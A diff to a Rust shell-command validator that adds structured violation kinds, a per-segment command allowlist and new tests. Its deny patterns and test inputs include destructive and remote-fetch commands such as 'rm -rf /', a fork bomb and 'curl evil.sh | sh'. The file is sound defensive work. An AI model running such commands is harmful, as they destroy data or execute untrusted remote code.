@@ -4,53 +4,147 @@
 
 use regex::Regex;
 use std::collections::HashSet;
-use thiserror::Error;
 
-/// 検証エラー
-#[derive(Debug, Error, Clone, PartialEq, Eq)]
-pub enum ValidationError {
-    #[error("Command contains dangerous shell metacharacters: {0}")]
-    DangerousMetacharacters(String),
-
-    #[error("Command contains potentially dangerous pattern: {0}")]
-    DangerousPattern(String),
-
-    #[error("Command exceeds maximum length: {actual} > {max}")]
-    ExceedsMaxLength { actual: usize, max: usize },
+/// 違反の種類
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum ViolationKind {
+    /// 空コマンド
+    EmptyCommand,
+    /// ヌルバイト
+    NullByte,
+    /// 最大長超過
+    TooLong,
+    /// 禁止ワード
+    ForbiddenWord,
+    /// コマンド連結（;, &, &&, ||）
+    CommandChaining,
+    /// パイプ（|）
+    Pipe,
+    /// コマンド置換（$(...), `...`）
+    CommandSubstitution,
+    /// 変数展開（$VAR, ${...}）
+    VariableExpansion,
+    /// 危険なリダイレクト（>, <, /etc/, /dev/ への書き込み）
+    DangerousRedirect,
+    /// サブシェル（(...)）
+    Subshell,
+    /// その他のシェルメタ文字
+    DangerousMetacharacter,
+    /// シェル経由のコード実行（eval, exec, sh -c, | sh）
+    ShellExecution,
+    /// 権限昇格（sudo, su）
+    PrivilegeEscalation,
+    /// 権限・所有者変更（chmod, chown）
+    PermissionChange,
+    /// ディスクフォーマット（mkfs, format）
+    DiskFormat,
+    /// 許可リストにないコマンド
+    NotAllowlisted,
+}
 
-    #[error("Command contains null bytes")]
-    ContainsNullBytes,
+impl std::fmt::Display for ViolationKind {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let description = match self {
+            ViolationKind::EmptyCommand => "empty command",
+            ViolationKind::NullByte => "null byte",
+            ViolationKind::TooLong => "command too long",
+            ViolationKind::ForbiddenWord => "forbidden word",
+            ViolationKind::CommandChaining => "command chaining",
+            ViolationKind::Pipe => "pipe",
+            ViolationKind::CommandSubstitution => "command substitution",
+            ViolationKind::VariableExpansion => "variable expansion",
+            ViolationKind::DangerousRedirect => "dangerous redirect",
+            ViolationKind::Subshell => "subshell",
+            ViolationKind::DangerousMetacharacter => "dangerous shell metacharacter",
+            ViolationKind::ShellExecution => "shell code execution",
+            ViolationKind::PrivilegeEscalation => "privilege escalation",
+            ViolationKind::PermissionChange => "permission change",
+            ViolationKind::DiskFormat => "disk format",
+            ViolationKind::NotAllowlisted => "command not in allowlist",
+        };
+        f.write_str(description)
+    }
+}
 
-    #[error("Command is empty or whitespace only")]
-    EmptyCommand,
+/// 検出された違反
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Violation {
+    /// 違反の種類
+    pub kind: ViolationKind,
+    /// 一致した文字列
+    pub matched: String,
+    /// 一致位置（バイトオフセット）
+    pub position: usize,
+}
 
-    #[error("Command contains forbidden word: {0}")]
-    ForbiddenWord(String),
+impl std::fmt::Display for Violation {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self.kind {
+            ViolationKind::EmptyCommand => write!(f, "Command is empty or whitespace only"),
+            ViolationKind::TooLong => write!(
+                f,
+                "Command exceeds maximum length of {} bytes",
+                self.position
+            ),
+            kind => write!(
+                f,
+                "Command contains {}: '{}' at position {}",
+                kind,
+                self.matched.escape_debug(),
+                self.position
+            ),
+        }
+    }
 }
 
 /// 検証結果
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub enum ValidationResult {
-    /// 安全
-    Safe,
-    /// 警告付きで許可
-    Warning(String),
-    /// 危険で拒否
-    Denied(ValidationError),
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct ValidationResult {
+    /// 検出された違反（位置順）
+    pub violations: Vec<Violation>,
+    /// 許可されたが注意が必要な点
+    pub warnings: Vec<String>,
 }
 
 impl ValidationResult {
+    /// 違反なしの結果
+    pub fn safe() -> Self {
+        Self::default()
+    }
+
     /// 安全かチェック
     pub fn is_safe(&self) -> bool {
-        matches!(self, ValidationResult::Safe | ValidationResult::Warning(_))
+        self.violations.is_empty()
     }
 
-    /// エラーを取得
-    pub fn error(&self) -> Option<&ValidationError> {
-        match self {
-            ValidationResult::Denied(err) => Some(err),
-            _ => None,
+    /// 最初の違反を取得
+    pub fn error(&self) -> Option<&Violation> {
+        self.violations.first()
+    }
+
+    /// 指定した種類の違反が含まれるか
+    pub fn has(&self, kind: ViolationKind) -> bool {
+        self.violations.iter().any(|v| v.kind == kind)
+    }
+
+    /// 違反の種類一覧（重複なし、位置順）
+    pub fn kinds(&self) -> Vec<ViolationKind> {
+        let mut kinds = Vec::new();
+        for violation in &self.violations {
+            if !kinds.contains(&violation.kind) {
+                kinds.push(violation.kind);
+            }
         }
+        kinds
+    }
+
+    /// 全違反を1行にまとめた説明
+    pub fn reasons(&self) -> String {
+        self.violations
+            .iter()
+            .map(|v| v.to_string())
+            .collect::<Vec<_>>()
+            .join("; ")
     }
 }
 
@@ -67,6 +161,8 @@ pub struct CommandValidator {
     forbidden_words: HashSet<String>,
     /// 変数展開を許可
     allow_var_expansion: bool,
+    /// 許可するベースコマンド（設定時は先頭トークンがこのリストにないコマンドを拒否）
+    allowlist: Option<HashSet<String>>,
 }
 
 impl CommandValidator {
@@ -83,28 +179,29 @@ impl CommandValidator {
     const ALLOWED_BASIC_METACHARACTERS: &'static [char] =
         &['-', '_', '.', '/', ':', '=', ',', ' ', '\'', '\\', '"'];
 
-    /// 危険なパターン（正規表現）
-    const DANGEROUS_PATTERNS: &'static [&'static str] = &[
-        r"\$\(.*\)",              // コマンド置換: $(...)
-        r"`.*`",                  // コマンド置換: `...`
-        r"\$\{.*\}",              // 変数展開: ${...}（一部許可の場合もある）
-        r"[;&|]",                 // コマンド連結
-        r">>\s*\/dev\/",          // デバイスファイル書き込み
-        r"[<>]\s*\/etc\/",        // システムファイル操作
-        r"\|\s*sh",               // シェルへのパイプ
-        r"\|\s*bash",             // bashへのパイプ
-        r"eval\s+",               // evalコマンド
-        r"exec\s+",               // execコマンド
-        r"^sh\s+-c\s+",           // sh -c 実行
-        r"\s+sh\s+-c\s+",         // sh -c 実行（スペース後）
-        r"chmod\s+[0-7]{3,4}",    // chmod権限変更
-        r"chown\s+",              // chown所有者変更
-        r"sudo\s+",               // sudo実行
-        r"su\s+",                 // suユーザー切り替え
-        r"mkfs\.\w+",             // ディスクフォーマット: mkfs.ext4等
-        r"mkfs\s+/dev/",          // ディスクフォーマット: mkfs /dev/sda等
-        r"^format\s+[a-zA-Z]:",   // Windowsディスクフォーマット: format c:等
-        r"\s+format\s+[a-zA-Z]:", // Windowsディスクフォーマット（スペース後）
+    /// 危険なパターン（正規表現）と違反の種類
+    const DANGEROUS_PATTERNS: &'static [(&'static str, ViolationKind)] = &[
+        (r"\$\(.*\)", ViolationKind::CommandSubstitution), // コマンド置換: $(...)
+        (r"`.*`", ViolationKind::CommandSubstitution),     // コマンド置換: `...`
+        (r"\$\{.*\}", ViolationKind::VariableExpansion), // 変数展開: ${...}（一部許可の場合もある）
+        (r"[;&]", ViolationKind::CommandChaining),       // コマンド連結
+        (r"\|", ViolationKind::Pipe),                    // パイプ
+        (r">>\s*\/dev\/", ViolationKind::DangerousRedirect), // デバイスファイル書き込み
+        (r"[<>]\s*\/etc\/", ViolationKind::DangerousRedirect), // システムファイル操作
+        (r"\|\s*sh", ViolationKind::ShellExecution),     // シェルへのパイプ
+        (r"\|\s*bash", ViolationKind::ShellExecution),   // bashへのパイプ
+        (r"eval\s+", ViolationKind::ShellExecution),     // evalコマンド
+        (r"exec\s+", ViolationKind::ShellExecution),     // execコマンド
+        (r"^sh\s+-c\s+", ViolationKind::ShellExecution), // sh -c 実行
+        (r"\s+sh\s+-c\s+", ViolationKind::ShellExecution), // sh -c 実行（スペース後）
+        (r"chmod\s+[0-7]{3,4}", ViolationKind::PermissionChange), // chmod権限変更
+        (r"chown\s+", ViolationKind::PermissionChange),  // chown所有者変更
+        (r"sudo\s+", ViolationKind::PrivilegeEscalation), // sudo実行
+        (r"su\s+", ViolationKind::PrivilegeEscalation),  // suユーザー切り替え
+        (r"mkfs\.\w+", ViolationKind::DiskFormat),       // ディスクフォーマット: mkfs.ext4等
+        (r"mkfs\s+/dev/", ViolationKind::DiskFormat),    // ディスクフォーマット: mkfs /dev/sda等
+        (r"^format\s+[a-zA-Z]:", ViolationKind::DiskFormat), // Windowsディスクフォーマット: format c:等
+        (r"\s+format\s+[a-zA-Z]:", ViolationKind::DiskFormat), // Windowsディスクフォーマット（スペース後）
     ];
 
     /// デフォルトの禁止ワード
@@ -127,6 +224,7 @@ impl CommandValidator {
                 .map(|s| s.to_string())
                 .collect(),
             allow_var_expansion: false,
+            allowlist: None,
         }
     }
 
@@ -154,93 +252,208 @@ impl CommandValidator {
         self
     }
 
+    /// 許可リストを設定
+    ///
+    /// 設定すると、先頭トークンが許可リストにないコマンドを拒否する（禁止ワード等のチェックに追加）。
+    /// コマンド連結（`&&`, `||`, `;`, `&`, `|`）で区切られた各セグメントごとに適用される。
+    pub fn with_allowlist(mut self, words: Vec<String>) -> Self {
+        self.allowlist = Some(words.into_iter().collect());
+        self
+    }
+
     /// コマンドを検証
+    ///
+    /// 検出されたすべての違反を位置順で返す
     pub fn validate(&self, command: &str) -> ValidationResult {
         // 空チェック
         if command.trim().is_empty() {
-            return ValidationResult::Denied(ValidationError::EmptyCommand);
+            return ValidationResult {
+                violations: vec![Violation {
+                    kind: ViolationKind::EmptyCommand,
+                    matched: command.to_string(),
+                    position: 0,
+                }],
+                warnings: Vec::new(),
+            };
         }
 
+        let mut violations = Vec::new();
+
         // ヌルバイトチェック
-        if command.contains('\0') {
-            return ValidationResult::Denied(ValidationError::ContainsNullBytes);
+        if let Some(position) = command.find('\0') {
+            violations.push(Violation {
+                kind: ViolationKind::NullByte,
+                matched: "\0".to_string(),
+                position,
+            });
         }
 
         // 長さチェック
         if command.len() > self.max_length {
-            return ValidationResult::Denied(ValidationError::ExceedsMaxLength {
-                actual: command.len(),
-                max: self.max_length,
+            violations.push(Violation {
+                kind: ViolationKind::TooLong,
+                matched: String::new(),
+                position: self.max_length,
             });
         }
 
         // 禁止ワードチェック
         for word in &self.forbidden_words {
-            if command.contains(word.as_str()) {
-                return ValidationResult::Denied(ValidationError::ForbiddenWord(word.clone()));
+            if let Some(position) = command.find(word.as_str()) {
+                violations.push(Violation {
+                    kind: ViolationKind::ForbiddenWord,
+                    matched: word.clone(),
+                    position,
+                });
             }
         }
 
-        // メタ文字チェック
-        if let Some(result) = self.check_metacharacters(command) {
-            return result;
+        // 許可リストチェック
+        if let Some(allowlist) = &self.allowlist {
+            Self::check_allowlist(command, allowlist, &mut violations);
         }
 
+        // メタ文字チェック
+        self.check_metacharacters(command, &mut violations);
+
         // 危険パターンチェック（厳格モード）
         if self.strict {
-            if let Some(result) = self.check_dangerous_patterns(command) {
-                return result;
+            self.check_dangerous_patterns(command, &mut violations);
+        }
+
+        // 同じ種類・位置の重複を除去（メタ文字とパターンの両方で検出された場合は長い一致を残す）
+        violations.sort_by(|a, b| {
+            a.position
+                .cmp(&b.position)
+                .then_with(|| b.matched.len().cmp(&a.matched.len()))
+        });
+        let mut seen = HashSet::new();
+        violations.retain(|v| seen.insert((v.kind, v.position)));
+
+        ValidationResult {
+            violations,
+            warnings: Vec::new(),
+        }
+    }
+
+    /// 許可リストのみを検証（`--allow-unsafe` 指定時も適用する）
+    ///
+    /// 許可リストが設定されていない場合は常に安全
+    pub fn validate_allowlist(&self, command: &str) -> ValidationResult {
+        let mut violations = Vec::new();
+        if let Some(allowlist) = &self.allowlist {
+            Self::check_allowlist(command, allowlist, &mut violations);
+        }
+        ValidationResult {
+            violations,
+            warnings: Vec::new(),
+        }
+    }
+
+    /// 各セグメントの先頭トークンが許可リストに含まれるかチェック
+    fn check_allowlist(
+        command: &str,
+        allowlist: &HashSet<String>,
+        violations: &mut Vec<Violation>,
+    ) {
+        for (offset, segment) in split_segments(command) {
+            // 先頭の `(` と環境変数代入（`FOO=bar cmd`）はベースコマンドではない
+            let trimmed = segment.trim_start_matches(|c: char| c.is_whitespace() || c == '(');
+            let mut index = offset + (segment.len() - trimmed.len());
+            let mut rest = trimmed;
+            let base = loop {
+                let token_end = rest.find(char::is_whitespace).unwrap_or(rest.len());
+                let token = &rest[..token_end];
+                if token.contains('=') && !token.starts_with('=') {
+                    let next = rest[token_end..].trim_start();
+                    index += rest.len() - next.len();
+                    rest = next;
+                    continue;
+                }
+                break token;
+            };
+
+            if base.is_empty() || allowlist.contains(base) {
+                continue;
             }
+
+            violations.push(Violation {
+                kind: ViolationKind::NotAllowlisted,
+                matched: base.to_string(),
+                position: index,
+            });
         }
+    }
 
-        ValidationResult::Safe
+    /// メタ文字の違反の種類
+    fn metacharacter_kind(ch: char, next: Option<char>) -> ViolationKind {
+        match ch {
+            ';' | '&' => ViolationKind::CommandChaining,
+            '|' => ViolationKind::Pipe,
+            '>' | '<' => ViolationKind::DangerousRedirect,
+            '`' => ViolationKind::CommandSubstitution,
+            '$' if next == Some('(') => ViolationKind::CommandSubstitution,
+            '$' => ViolationKind::VariableExpansion,
+            '(' | ')' => ViolationKind::Subshell,
+            _ => ViolationKind::DangerousMetacharacter,
+        }
     }
 
     /// メタ文字をチェック
-    fn check_metacharacters(&self, command: &str) -> Option<ValidationResult> {
-        let mut dangerous_chars = Vec::new();
-
-        for ch in command.chars() {
-            if Self::DANGEROUS_METACHARACTERS.contains(&ch)
-                && !self.allowed_metacharacters.contains(&ch)
+    ///
+    /// 同じ種類の連続したメタ文字（`&&` など）は1つの違反にまとめる
+    fn check_metacharacters(&self, command: &str, violations: &mut Vec<Violation>) {
+        let mut current: Option<Violation> = None;
+        let mut chars = command.char_indices().peekable();
+
+        while let Some((position, ch)) = chars.next() {
+            if !Self::DANGEROUS_METACHARACTERS.contains(&ch)
+                || self.allowed_metacharacters.contains(&ch)
             {
-                dangerous_chars.push(ch);
+                continue;
             }
-        }
 
-        if !dangerous_chars.is_empty() {
-            let chars_str = dangerous_chars
-                .iter()
-                .map(|c| format!("'{}'", c))
-                .collect::<Vec<_>>()
-                .join(", ");
+            let kind = Self::metacharacter_kind(ch, chars.peek().map(|&(_, c)| c));
+
+            if let Some(violation) = current.as_mut() {
+                if violation.kind == kind
+                    && violation.position + violation.matched.len() == position
+                {
+                    violation.matched.push(ch);
+                    continue;
+                }
+            }
 
-            return Some(ValidationResult::Denied(
-                ValidationError::DangerousMetacharacters(chars_str),
-            ));
+            if let Some(violation) = current.replace(Violation {
+                kind,
+                matched: ch.to_string(),
+                position,
+            }) {
+                violations.push(violation);
+            }
         }
 
-        None
+        violations.extend(current);
     }
 
     /// 危険なパターンをチェック
-    fn check_dangerous_patterns(&self, command: &str) -> Option<ValidationResult> {
-        for pattern_str in Self::DANGEROUS_PATTERNS {
+    fn check_dangerous_patterns(&self, command: &str, violations: &mut Vec<Violation>) {
+        for (pattern_str, kind) in Self::DANGEROUS_PATTERNS {
             // 変数展開が許可されている場合、${...}パターンはスキップ
             if self.allow_var_expansion && *pattern_str == r"\$\{.*\}" {
                 continue;
             }
 
             if let Ok(pattern) = Regex::new(pattern_str) {
-                if pattern.is_match(command) {
-                    return Some(ValidationResult::Denied(ValidationError::DangerousPattern(
-                        pattern_str.to_string(),
-                    )));
+                if let Some(m) = pattern.find(command) {
+                    violations.push(Violation {
+                        kind: *kind,
+                        matched: m.as_str().to_string(),
+                        position: m.start(),
+                    });
                 }
             }
         }
-
-        None
     }
 
     /// 変数展開を許可（${VAR} 形式）
@@ -326,6 +539,47 @@ pub fn check_dangerous_env_vars<S: std::hash::BuildHasher>(
         .collect()
 }
 
+/// スクリプトファイルの検証対象行（1始まりの行番号付き）
+///
+/// 空行と `#` で始まるコメント行（shebang を含む）は除く。スクリプトは任意の処理を
+/// 含められるため、各行を個別のコマンドとして検証する
+pub fn script_lines(script: &str) -> impl Iterator<Item = (usize, &str)> {
+    script
+        .lines()
+        .enumerate()
+        .map(|(i, line)| (i + 1, line.trim()))
+        .filter(|(_, line)| !line.is_empty() && !line.starts_with('#'))
+}
+
+/// コマンド連結（`&&`, `||`, `;`, `&`, `|`, 改行）でコマンドを分割する
+///
+/// クォート内の区切り文字は無視する。各セグメントの開始位置（バイトオフセット）を返す
+fn split_segments(command: &str) -> Vec<(usize, &str)> {
+    let mut segments = Vec::new();
+    let mut start = 0;
+    let mut quote: Option<char> = None;
+    let mut escaped = false;
+
+    for (i, ch) in command.char_indices() {
+        if escaped {
+            escaped = false;
+            continue;
+        }
+        match (quote, ch) {
+            (_, '\\') if quote != Some('\'') => escaped = true,
+            (None, '\'' | '"') => quote = Some(ch),
+            (Some(q), c) if c == q => quote = None,
+            (None, ';' | '&' | '|' | '\n') => {
+                segments.push((start, &command[start..i]));
+                start = i + ch.len_utf8();
+            }
+            _ => {}
+        }
+    }
+    segments.push((start, &command[start..]));
+    segments
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -333,14 +587,8 @@ mod tests {
     #[test]
     fn test_safe_command() {
         let validator = CommandValidator::new();
-        assert!(matches!(
-            validator.validate("echo hello"),
-            ValidationResult::Safe
-        ));
-        assert!(matches!(
-            validator.validate("ls -la /tmp"),
-            ValidationResult::Safe
-        ));
+        assert!(validator.validate("echo hello").is_safe());
+        assert_eq!(validator.validate("ls -la /tmp"), ValidationResult::safe());
     }
 
     #[test]
@@ -349,17 +597,14 @@ mod tests {
 
         // セミコロンによるコマンド連結（禁止ワードを含まないパターン）
         let result = validator.validate("echo hello; ls");
-        assert!(matches!(
-            result,
-            ValidationResult::Denied(ValidationError::DangerousMetacharacters(_))
-        ));
+        assert_eq!(result.kinds(), vec![ViolationKind::CommandChaining]);
+        assert_eq!(result.violations[0].matched, ";");
+        assert_eq!(result.violations[0].position, 10);
 
         // パイプ
         let result = validator.validate("cat file | sh");
-        assert!(matches!(
-            result,
-            ValidationResult::Denied(ValidationError::DangerousMetacharacters(_))
-        ));
+        assert!(result.has(ViolationKind::Pipe));
+        assert!(result.has(ViolationKind::ShellExecution));
     }
 
     #[test]
@@ -382,40 +627,28 @@ mod tests {
     fn test_null_bytes() {
         let validator = CommandValidator::new();
         let result = validator.validate("echo hello\0world");
-        assert!(matches!(
-            result,
-            ValidationResult::Denied(ValidationError::ContainsNullBytes)
-        ));
+        assert!(result.has(ViolationKind::NullByte));
     }
 
     #[test]
     fn test_empty_command() {
         let validator = CommandValidator::new();
         let result = validator.validate("   ");
-        assert!(matches!(
-            result,
-            ValidationResult::Denied(ValidationError::EmptyCommand)
-        ));
+        assert!(result.has(ViolationKind::EmptyCommand));
     }
 
     #[test]
     fn test_max_length() {
         let validator = CommandValidator::new().with_max_length(10);
         let result = validator.validate("echo hello world");
-        assert!(matches!(
-            result,
-            ValidationResult::Denied(ValidationError::ExceedsMaxLength { .. })
-        ));
+        assert!(result.has(ViolationKind::TooLong));
     }
 
     #[test]
     fn test_forbidden_words() {
         let validator = CommandValidator::new();
         let result = validator.validate("rm -rf /");
-        assert!(matches!(
-            result,
-            ValidationResult::Denied(ValidationError::ForbiddenWord(_))
-        ));
+        assert!(result.has(ViolationKind::ForbiddenWord));
     }
 
     #[test]
@@ -446,6 +679,68 @@ mod tests {
         assert!(result.is_safe());
     }
 
+    #[test]
+    fn test_allowlist_allows_base_command() {
+        let validator =
+            CommandValidator::new().with_allowlist(vec!["cargo".to_string(), "npm".to_string()]);
+
+        assert!(validator.validate("cargo build --release").is_safe());
+        assert!(validator.validate("RUST_LOG=debug cargo test").is_safe());
+    }
+
+    #[test]
+    fn test_allowlist_rejects_other_base_command() {
+        let validator = CommandValidator::new().with_allowlist(vec!["cargo".to_string()]);
+
+        let result = validator.validate("curl https://example.com");
+        assert_eq!(result.kinds(), vec![ViolationKind::NotAllowlisted]);
+        assert_eq!(result.violations[0].matched, "curl");
+        assert_eq!(result.violations[0].position, 0);
+
+        // 禁止ワードチェックも引き続き適用される
+        let validator = CommandValidator::new().with_allowlist(vec!["rm".to_string()]);
+        let result = validator.validate("rm -rf /");
+        assert_eq!(result.kinds(), vec![ViolationKind::ForbiddenWord]);
+    }
+
+    #[test]
+    fn test_validate_allowlist_only() {
+        let validator = CommandValidator::new().with_allowlist(vec!["echo".to_string()]);
+
+        // 危険パターンは見ない
+        assert!(validator.validate_allowlist("echo a; echo b").is_safe());
+        let result = validator.validate_allowlist("echo a; curl evil.sh");
+        assert_eq!(result.kinds(), vec![ViolationKind::NotAllowlisted]);
+        assert_eq!(result.violations[0].matched, "curl");
+
+        // 許可リストなしでは常に安全
+        assert!(CommandValidator::new()
+            .validate_allowlist("rm -rf /")
+            .is_safe());
+    }
+
+    #[test]
+    fn test_allowlist_applies_per_chained_segment() {
+        let validator = CommandValidator::new()
+            .with_strict_mode(false)
+            .allow_chaining()
+            .with_allowlist(vec!["cargo".to_string(), "echo".to_string()]);
+
+        assert!(validator
+            .validate("cargo build && echo 'done; ok' || echo failed")
+            .is_safe());
+
+        let result = validator.validate("cargo build && curl evil.sh | sh");
+        assert_eq!(result.kinds(), vec![ViolationKind::NotAllowlisted]);
+        let rejected: Vec<_> = result
+            .violations
+            .iter()
+            .map(|v| v.matched.as_str())
+            .collect();
+        assert_eq!(rejected, vec!["curl", "sh"]);
+        assert_eq!(result.violations[0].position, 15);
+    }
+
     #[test]
     fn test_escape_shell_arg() {
         assert_eq!(escape_shell_arg("hello"), "hello");
@@ -472,32 +767,76 @@ mod tests {
     fn test_fork_bomb() {
         let validator = CommandValidator::new();
         let result = validator.validate(":(){:|:&};:");
-        assert!(matches!(
-            result,
-            ValidationResult::Denied(ValidationError::ForbiddenWord(_))
-        ));
+        assert!(result.has(ViolationKind::ForbiddenWord));
     }
 
     #[test]
     fn test_validation_result_is_safe() {
-        assert!(ValidationResult::Safe.is_safe());
-        assert!(ValidationResult::Warning("test".to_string()).is_safe());
-        assert!(!ValidationResult::Denied(ValidationError::EmptyCommand).is_safe());
+        assert!(ValidationResult::safe().is_safe());
+
+        let warned = ValidationResult {
+            violations: Vec::new(),
+            warnings: vec!["test".to_string()],
+        };
+        assert!(warned.is_safe());
+
+        let validator = CommandValidator::new();
+        assert!(!validator.validate("").is_safe());
     }
 
     #[test]
     fn test_validation_result_error() {
-        assert!(ValidationResult::Safe.error().is_none());
-        assert!(ValidationResult::Warning("test".to_string())
-            .error()
-            .is_none());
+        assert!(ValidationResult::safe().error().is_none());
 
-        let error = ValidationResult::Denied(ValidationError::EmptyCommand);
-        assert!(error.error().is_some());
-        assert!(matches!(
-            error.error().unwrap(),
-            ValidationError::EmptyCommand
-        ));
+        let validator = CommandValidator::new();
+        let result = validator.validate("   ");
+        let violation = result.error().unwrap();
+        assert_eq!(violation.kind, ViolationKind::EmptyCommand);
+        assert_eq!(violation.to_string(), "Command is empty or whitespace only");
+    }
+
+    #[test]
+    fn test_violations_sorted_and_grouped() {
+        let validator = CommandValidator::new();
+        let result = validator.validate("echo a && sudo ls > /etc/x");
+
+        let positions: Vec<usize> = result.violations.iter().map(|v| v.position).collect();
+        let mut sorted = positions.clone();
+        sorted.sort_unstable();
+        assert_eq!(positions, sorted);
+
+        // && は1つの違反にまとめられる
+        let chaining: Vec<_> = result
+            .violations
+            .iter()
+            .filter(|v| v.kind == ViolationKind::CommandChaining)
+            .collect();
+        assert_eq!(chaining.len(), 1);
+        assert_eq!(chaining[0].matched, "&&");
+        assert_eq!(chaining[0].position, 7);
+
+        assert!(result.has(ViolationKind::PrivilegeEscalation));
+        assert!(result.has(ViolationKind::DangerousRedirect));
+    }
+
+    #[test]
+    fn test_violation_display() {
+        let validator = CommandValidator::new();
+        let result = validator.validate("echo $(whoami)");
+        let violation = result.error().unwrap();
+        assert_eq!(violation.kind, ViolationKind::CommandSubstitution);
+        assert_eq!(
+            violation.to_string(),
+            "Command contains command substitution: '$(whoami)' at position 5"
+        );
+
+        let result = CommandValidator::new()
+            .with_max_length(4)
+            .validate("echo hi");
+        assert_eq!(
+            result.error().unwrap().to_string(),
+            "Command exceeds maximum length of 4 bytes"
+        );
     }
 
     #[test]
@@ -616,6 +955,13 @@ mod tests {
             .is_safe());
     }
 
+    #[test]
+    fn test_script_lines_skip_blank_and_comments() {
+        let script = "#!/bin/sh\n\n# build\ncargo build\n  echo done  \n";
+        let lines: Vec<(usize, &str)> = script_lines(script).collect();
+        assert_eq!(lines, vec![(4, "cargo build"), (5, "echo done")]);
+    }
+
     #[test]
     fn test_newline_and_carriage_return() {
         let validator = CommandValidator::new();